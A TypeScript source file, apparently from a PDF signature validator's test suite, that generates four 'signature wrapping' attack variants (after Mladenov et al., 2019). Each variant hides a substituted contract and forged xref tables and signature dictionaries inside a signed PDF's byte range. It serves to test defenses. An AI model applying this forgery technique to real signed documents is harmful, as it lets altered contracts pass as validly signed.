import { type Bytes, concatBytes } from "../../lib/bytes.ts";
import { fromLatin1, latin1 } from "../../lib/pades/pdf/chars.ts";
import { openPdf } from "../../lib/pades/pdf/index.ts";
import { findSignatures } from "../../lib/pades/validate/find-signatures.ts";
import type { World } from "../pki.ts";
import { contract, inUse, OTHER_TERMS, sign, startXref, words } from "./contract.ts";
import type { AttackFile } from "./index.ts";

/** Signature wrapping (Mladenov et al., CCS 2019): the signed bytes are all there, but moved apart, and the gap holds another document. */
export async function wrappingAttacks(world: World): Promise<AttackFile[]> {
  const { pdf } = await sign(world, contract());
  const file = (name: string, what: string, bytes: Uint8Array): AttackFile => ({
    family: "wrapping",
    name,
    what,
    files: [bytes],
  });
  return [
    file(
      "swa-moved",
      "the second stretch is moved behind a new body and table; a new dictionary says where it lies now",
      wrap(pdf, {}),
    ),
    file("swa-moved-zeros", "the same, /Contents filled up with zeros over the new body", wrap(pdf, { fill: "0" })),
    file("swa-same-dictionary", "the same, but the signature dictionary is the old one", wrap(pdf, { keepDictionary: true })),
    file(
      "swa-copied-range",
      "the old dictionary, and behind the moved stretch a second one of the same number",
      concatBytes(wrap(pdf, {}), fromLatin1("%\n")),
    ),
  ];
}

/** `orig[0..gapEnd) ‖ evil ‖ orig[gapEnd..)`: the old startxref now leads into the evil part, where a new table lies. */
function wrap(pdf: Bytes, { fill = " ", keepDictionary = false }): Bytes {
  const [signature] = findSignatures(openPdf(pdf));
  if (!signature?.ok) throw new Error("no signature to wrap");
  const [, gapStart, gapEnd, rest] = signature.byteRange;
  const number = Number(/\/V (\d+) 0 R/.exec(latin1(pdf))?.[1]);
  const xrefAt = startXref(pdf); // the signed second stretch says so, and stays as it is
  const evil = words(OTHER_TERMS);
  const content = `\n4 0 obj\n<</Length ${evil.length}>>\nstream\n${evil}\nendstream\nendobj\n`;
  const hex = latin1(pdf, gapStart, gapEnd);
  const room = xrefAt + 4000;
  const dictionary = (second: number) =>
    `${number} 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 ${gapStart} ${second} ${rest}]/Contents ${hex}>>\nendobj\n`;
  const second = room + hex.length + 2000;
  const before = `${content}${keepDictionary ? "" : dictionary(second)}`;
  const at = gapEnd;
  const lead = fill.repeat(Math.max(0, xrefAt - at));
  // Where the old table was expected there must be the new one; its objects come after it.
  const contentAt = xrefAt + 400;
  const table =
    `xref\n${inUse(4, contentAt + 1)}${keepDictionary ? "" : inUse(number, contentAt + content.length)}` +
    `trailer\n<</Size 60/Root 1 0 R/Prev ${previousXref(pdf)}>>\n`;
  const gap = lead.slice(0, xrefAt - at) + table.padEnd(400) + before;
  return concatBytes(pdf.subarray(0, gapEnd), fromLatin1(gap.padEnd(second - gapEnd)), pdf.subarray(gapEnd));
}

function previousXref(pdf: Uint8Array): number {
  const all = [...latin1(pdf).matchAll(/startxref\s+(\d+)/g)].map(([, offset]) => Number(offset));
  return all.at(-2) ?? 0;
}
